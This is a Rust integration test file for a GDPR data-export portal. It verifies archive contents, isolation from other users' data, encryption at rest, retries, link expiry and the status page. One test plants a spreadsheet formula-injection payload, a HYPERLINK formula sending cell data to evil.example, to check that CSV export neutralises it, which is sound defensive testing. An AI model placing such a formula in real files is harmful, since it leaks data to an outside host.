//! The export end to end: real PostgreSQL, MariaDB, SQLite and Redis stores and the Stripe
//! fake; the archive is opened with an independent reader (Python's zipfile, csv and json)
//! and compared with the stores; faults (a store down, a worker killed) end in exactly one
//! complete archive. The same over S3 storage: tests/export_s3.rs.

mod common;

use std::process::{Command, Stdio};
use std::time::Duration;

use common::company::{
    Company, company, download, only_request_id, read_zip, stripe_env, stripe_objects, zip_body,
};
use common::stores::{Sql, StoreDb};
use common::{Backend, Setup, TestApp, eventually, stderr, stdout};
use diesel::RunQueryDsl;
use serde_json::json;

fn export_config(setup: &mut Setup, c: &Company) {
    setup.datamap = c.map.clone();
}

async fn spawn(backend: Backend) -> (TestApp, Company) {
    stripe_env();
    let smtp = common::smtp::Smtp::start();
    let mut setup = Setup::new(backend, smtp.port);
    let c = company(setup.dir.path());
    export_config(&mut setup, &c);
    (TestApp::spawn_setup(setup, smtp, true).await, c)
}

async fn full_export(backend: Backend) {
    let (app, c) = spawn(backend).await;
    let status = app.verified_request("ada@example.com", "access").await;
    let (r, _) = download(&app, "ada@example.com").await;
    assert!(
        r.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"dsr-export-")
    );
    let bytes = zip_body(r).await;
    let z = read_zip(&bytes);
    assert_eq!(
        z["names"],
        json!([
            "README.html",
            "accounts/users.csv",
            "accounts/users.json",
            "billing/charges.json",
            "billing/customer.json",
            "billing/invoices.json",
            "billing/subscriptions.json",
            "cache/keys.json",
            "manifest.json",
            "shop/orders.csv",
            "shop/orders.json",
            "support/tickets.csv",
            "support/tickets.json"
        ])
    );
    assert_eq!(z["sha_ok"], json!(true));
    assert_eq!(z["manifest"]["subject"]["email"], "ada@example.com");
    // Every value, as the stores hold it.
    assert_eq!(
        z["json"]["accounts/users.json"],
        json!([{"id": 1, "email": "ada@example.com", "name": "Ada, \"the\" Countess", "balance": 12.50,
                "created_at": "2024-01-02T03:04:05.000000Z"}])
    );
    assert_eq!(
        z["csv"]["accounts/users.csv"],
        json!([
            ["id", "email", "name", "balance", "created_at"],
            [
                "1",
                "ada@example.com",
                "Ada, \"the\" Countess",
                "12.50",
                "2024-01-02T03:04:05.000000Z"
            ]
        ])
    );
    assert_eq!(
        z["json"]["shop/orders.json"],
        json!([{"id": 10, "user_id": 1, "total": 19.90, "note": "gift\nwrap"}, {"id": 11, "user_id": 1, "total": 5.00, "note": null}])
    );
    assert_eq!(
        z["csv"]["shop/orders.csv"],
        json!([
            ["id", "user_id", "total", "note"],
            ["10", "1", "19.90", "gift\nwrap"],
            ["11", "1", "5.00", ""]
        ])
    );
    assert_eq!(
        z["json"]["support/tickets.json"],
        json!([{"id": 100, "user_id": 1, "body": "Help, é ü 😀"}])
    );
    let keys = &z["json"]["cache/keys.json"];
    assert_eq!(keys[0]["value"], "ada-session");
    assert_eq!(keys[0]["type"], "string");
    // Stripe's own objects, exactly as the (fake) API holds them.
    let (customer, invoices) = stripe_objects(&c);
    assert_eq!(z["json"]["billing/customer.json"], customer);
    assert_eq!(z["json"]["billing/invoices.json"], invoices);
    assert_eq!(invoices.as_array().unwrap().len(), 3);
    assert_eq!(
        z["json"]["billing/charges.json"].as_array().unwrap().len(),
        1
    );
    assert_eq!(
        z["json"]["billing/subscriptions.json"][0]["status"],
        "active"
    );
    // Bob appears nowhere.
    let text = z["text"].as_str().unwrap();
    for secret in [
        "bob",
        "Secretname",
        "99.99",
        "bob-order-note",
        "bob-ticket-body",
        "bob-session",
        "bob@example.com",
    ] {
        assert!(!text.contains(secret), "{secret} leaked into Ada's archive");
    }
    assert!(
        text.contains("Art. 77"),
        "README carries the Art. 15 information"
    );

    // At rest the archive is encrypted; downloads are audited.
    let dir = app.setup.dir.path().join("exports");
    let files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(files.len(), 1, "{files:?}");
    let at_rest = std::fs::read(&files[0]).unwrap();
    assert!(!at_rest.starts_with(b"PK"), "not a readable zip on disk");
    assert!(!at_rest.windows(9).any(|w| w == b"ada-sessi"));
    let id = z["manifest"]["request_id"].as_str().unwrap().to_owned();
    let show = stdout(&app.cli(&["requests", "show", &id]));
    assert!(
        show.contains("downloaded") && show.contains("complete"),
        "{show}"
    );
    assert!(
        show.contains("accounts") && show.contains("done"),
        "progress per store: {show}"
    );
    // The subject's status page shows what was found, rows per store, in words.
    let page = app.get(&status).await.text().await.unwrap();
    assert!(page.contains("Your answer is ready") && page.contains("What we found"));
    for (store, rows) in [
        ("Accounts", 1),
        ("Shop", 2),
        ("Support", 1),
        ("Cache", 1),
        ("Billing", 6),
    ] {
        assert!(
            page.contains(&format!(
                "<tr><td>{store}</td><td class=\"num\">{rows}</td><td>done</td></tr>"
            )),
            "{store}: {rows} rows on the status page: {page}"
        );
    }
    assert!(
        !page.contains("http-equiv=\"refresh\""),
        "never reloads itself"
    );
}

#[actix_web::test]
async fn full_export_on_sqlite() {
    full_export(Backend::Sqlite).await;
}

#[actix_web::test]
async fn full_export_on_postgres() {
    full_export(Backend::Postgres).await;
}

#[actix_web::test]
async fn an_unknown_subject_gets_an_archive_that_says_so() {
    let (app, _c) = spawn(Backend::Sqlite).await;
    app.verified_request("nobody@example.com", "access").await;
    let (r, _) = download(&app, "nobody@example.com").await;
    let z = read_zip(&r.bytes().await.unwrap());
    assert!(
        z["text"]
            .as_str()
            .unwrap()
            .contains("We hold no personal data about you")
    );
    assert_eq!(z["json"]["accounts/users.json"], json!([]));
    assert_eq!(
        z["csv"]["accounts/users.csv"],
        json!([["id", "email", "name", "balance", "created_at"]])
    );
}

#[actix_web::test]
async fn a_store_down_fails_the_request_naming_it_then_retry_completes() {
    stripe_env();
    let smtp = common::smtp::Smtp::start();
    let mut setup = Setup::new(Backend::Sqlite, smtp.port);
    let c = company(setup.dir.path());
    // The shop table is missing until the test puts it back.
    c.my.exec("RENAME TABLE orders TO orders_away");
    export_config(&mut setup, &c);
    let app = TestApp::spawn_setup(setup, smtp, true).await;
    let status = app.verified_request("ada@example.com", "access").await;
    let config = app.config_path.clone();
    eventually("the request to fail", Duration::from_secs(30), || {
        stdout(&common::cli(&config, &["requests", "list"])).contains("failed")
    })
    .await;
    let dpo = app.smtp.wait_for_nth("dpo@example.com", 1).await;
    assert!(dpo.text.contains("Store: shop"), "{}", dpo.text);
    let id = only_request_id(&app);
    let show = stdout(&app.cli(&["requests", "show", &id]));
    assert!(
        show.contains("\"store\":\"shop\""),
        "the timeline names the store: {show}"
    );
    // The subject sees the store is delayed, not the error (that is for the DPO), and no
    // count of 0 for what it had read.
    let page = app.get(&status).await.text().await.unwrap();
    assert!(
        page.contains(
            "<td>Shop</td><td class=\"num\">not known</td><td>delayed, we are on it</td>"
        ),
        "{page}"
    );
    assert!(!page.contains("orders"), "no internal error text: {page}");
    assert!(
        std::fs::read_dir(app.setup.dir.path().join("exports")).map_or(true, |d| d.count() == 0),
        "no partial archive"
    );

    c.my.exec("RENAME TABLE orders_away TO orders");
    let out = app.cli(&["requests", "retry", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    let (r, _) = download(&app, "ada@example.com").await;
    let z = read_zip(&r.bytes().await.unwrap());
    assert_eq!(z["json"]["shop/orders.json"].as_array().unwrap().len(), 2);
}

#[actix_web::test]
async fn a_worker_killed_mid_export_yields_one_archive_and_one_email() {
    stripe_env();
    let smtp = common::smtp::Smtp::start();
    let mut setup = Setup::new(Backend::Postgres, smtp.port);
    let c = company(setup.dir.path());
    export_config(&mut setup, &c);
    let app = TestApp::spawn_setup(setup, smtp, false).await;
    // A worker process takes the export and blocks on a locked table.
    let locker = TableLock::new(&c.my.url, "orders");
    let mut worker = Command::new(env!("CARGO_BIN_EXE_dsr-portal"))
        .args(["--config", app.config_path.to_str().unwrap(), "worker"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let status = app.verified_request("ada@example.com", "access").await;
    let portal = app.portal.clone();
    eventually("the export to start", Duration::from_secs(20), move || {
        let mut conn = portal.conn().unwrap();
        let id = progress_id(&mut conn);
        dsr_portal::db::exports::progress_of(&mut conn, &id).is_ok_and(|p| {
            p.iter()
                .any(|r| r.store == "shop" && r.state == dsr_portal::domain::work::Step::Running)
        })
    })
    .await;
    // Mid-export, the subject sees how far it has come, and a link to refresh (the page
    // never reloads itself: WCAG 2.2.1).
    let page = app.get(&status).await.text().await.unwrap();
    assert!(
        page.contains("<tr><td>Accounts</td><td class=\"num\">1</td><td>done</td></tr>"),
        "{page}"
    );
    assert!(
        page.contains("<tr><td>Shop</td><td class=\"num\">0</td><td>collecting</td></tr>"),
        "{page}"
    );
    assert!(!page.contains("<td>Support</td>"), "not started yet");
    assert!(!page.contains("http-equiv=\"refresh\""), "{page}");
    assert!(page.contains("Refresh this page"), "{page}");
    worker.kill().unwrap();
    worker.wait().unwrap();
    locker.unlock();
    let workers = dsr_portal::jobs::worker::Workers::spawn(&app.portal).unwrap();
    let (r, _) = download(&app, "ada@example.com").await;
    assert_eq!(r.status(), 200);
    app.settle().await;
    actix_web::rt::task::spawn_blocking(move || workers.stop())
        .await
        .unwrap();
    let ready = app
        .smtp
        .to("ada@example.com")
        .into_iter()
        .filter(|m| m.subject == "Your answer is ready to download")
        .count();
    assert_eq!(ready, 1, "one email");
    let files = std::fs::read_dir(app.setup.dir.path().join("exports"))
        .unwrap()
        .count();
    assert_eq!(files, 1, "one archive, no temporary leftovers");
}

/// Holds `LOCK TABLES … WRITE` on a MariaDB table: every other session's read waits.
struct TableLock(diesel::MysqlConnection);

impl TableLock {
    fn new(url: &str, table: &str) -> Self {
        use diesel::Connection;
        use diesel::connection::SimpleConnection;
        let mut c = diesel::MysqlConnection::establish(url).unwrap();
        c.batch_execute(&format!("LOCK TABLES {table} WRITE"))
            .unwrap();
        Self(c)
    }

    fn unlock(mut self) {
        use diesel::connection::SimpleConnection;
        self.0.batch_execute("UNLOCK TABLES").unwrap();
    }
}

fn progress_id(conn: &mut dsr_portal::db::DbConn) -> String {
    #[derive(diesel::QueryableByName)]
    struct Id {
        #[diesel(sql_type = diesel::sql_types::Text)]
        id: String,
    }
    diesel::sql_query("SELECT id FROM requests LIMIT 1")
        .get_result::<Id>(conn)
        .map(|r| r.id)
        .unwrap_or_default()
}

#[actix_web::test]
async fn an_expired_link_serves_nothing_and_cleanup_removes_the_file() {
    let (app, _c) = spawn(Backend::Sqlite).await;
    app.verified_request("ada@example.com", "access").await;
    let (r, path) = download(&app, "ada@example.com").await;
    assert_eq!(r.status(), 200);
    // A week and a day later (export.ttl_days = 7), by the portal's clock.
    app.portal.clock.advance(time::Duration::days(8));
    let r = app.get(&path).await;
    assert_eq!(r.status(), 410);
    let html = r.text().await.unwrap();
    assert!(
        html.contains("Make a new request") && !html.contains("PK"),
        "{html}"
    );
    let dir = app.setup.dir.path().join("exports");
    eventually("cleanup", Duration::from_secs(20), || {
        std::fs::read_dir(&dir).map_or(true, |d| d.count() == 0)
    })
    .await;
    let id = only_request_id(&app);
    assert!(stdout(&app.cli(&["requests", "show", &id])).contains("archive_deleted"));
    assert_eq!(app.get(&path).await.status(), 410);
    assert_eq!(
        app.get("/download/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
            .await
            .status(),
        404
    );
}

/// Cells a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR first) get a
/// leading `'` in every CSV of the archive, from PostgreSQL (cells handed over pre-split) and
/// from SQLite (rows as JSON) alike, negative numbers included; the JSON files keep every
/// value exactly.
#[actix_web::test]
async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let pg = StoreDb::new(Sql::Postgres);
    let lite = StoreDb::new(Sql::Sqlite);
    let link = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
    let quoted = link.replace('\'', "''");
    pg.exec(&format!(
        "CREATE TABLE notes (id BIGINT PRIMARY KEY, email TEXT NOT NULL, note TEXT, amount NUMERIC(6,2));
         INSERT INTO notes VALUES (1, 'ada@example.com', '{quoted}', -2.50), (2, 'ada@example.com', '+1', 3.00),
           (3, 'ada@example.com', '-2', NULL), (4, 'ada@example.com', '@x', 0),
           (5, 'ada@example.com', E'\\tx', 1), (6, 'ada@example.com', E'\\r=1', 1),
           (7, 'ada@example.com', 'plain, \"quoted\"', 7);"
    ));
    lite.exec(&format!(
        "CREATE TABLE notes (id INTEGER PRIMARY KEY, email TEXT NOT NULL, note TEXT, amount INTEGER);
         INSERT INTO notes VALUES (1, 'ada@example.com', '{quoted}', -2), (2, 'ada@example.com', '+1', 3),
           (3, 'ada@example.com', '-2', NULL), (4, 'ada@example.com', '@x', 0),
           (5, 'ada@example.com', char(9) || 'x', 1), (6, 'ada@example.com', char(13) || '=1', 1),
           (7, 'ada@example.com', 'plain, \"quoted\"', 7);"
    ));
    let smtp = common::smtp::Smtp::start();
    let mut setup = Setup::new(Backend::Sqlite, smtp.port);
    let map = setup.dir.path().join("notes-map.toml");
    let mut text = String::new();
    for (name, kind, url) in [("pg", "postgres", &pg.url), ("lite", "sqlite", &lite.url)] {
        text.push_str(&format!(
            "[[store]]\nname = \"{name}\"\ntype = \"{kind}\"\nurl = \"{url}\"\n  [[store.table]]\n  name = \"notes\"\n  match = {{ column = \"email\", identifier = \"email\" }}\n  erase = \"delete\"\n"
        ));
    }
    std::fs::write(&map, text).unwrap();
    setup.datamap = map;
    let app = TestApp::spawn_setup(setup, smtp, true).await;
    app.verified_request("ada@example.com", "access").await;
    let (r, _) = download(&app, "ada@example.com").await;
    let z = read_zip(&zip_body(r).await);
    let note_cells = [
        format!("'{link}"),
        "'+1".into(),
        "'-2".into(),
        "'@x".into(),
        "'\tx".into(),
        "'\r=1".into(),
        "plain, \"quoted\"".into(),
    ];
    for (csv, amounts) in [
        (
            "pg/notes.csv",
            ["'-2.50", "3.00", "", "0.00", "1.00", "1.00", "7.00"],
        ),
        ("lite/notes.csv", ["'-2", "3", "", "0", "1", "1", "7"]),
    ] {
        let rows = z["csv"][csv]
            .as_array()
            .unwrap_or_else(|| panic!("{csv}: {z}"));
        assert_eq!(rows[0], json!(["id", "email", "note", "amount"]), "{csv}");
        let notes: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str().unwrap()).collect();
        assert_eq!(notes, note_cells, "{csv}");
        let got: Vec<&str> = rows[1..].iter().map(|r| r[3].as_str().unwrap()).collect();
        assert_eq!(got, amounts, "{csv}");
    }
    for json in ["pg/notes.json", "lite/notes.json"] {
        let notes: Vec<&str> = z["json"][json]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["note"].as_str().unwrap_or(""))
            .collect();
        assert_eq!(
            notes,
            [link, "+1", "-2", "@x", "\tx", "\r=1", "plain, \"quoted\""],
            "{json}"
        );
    }
    assert_eq!(z["json"]["pg/notes.json"][0]["amount"], json!(-2.5));
    assert_eq!(z["json"]["lite/notes.json"][0]["amount"], json!(-2));
}
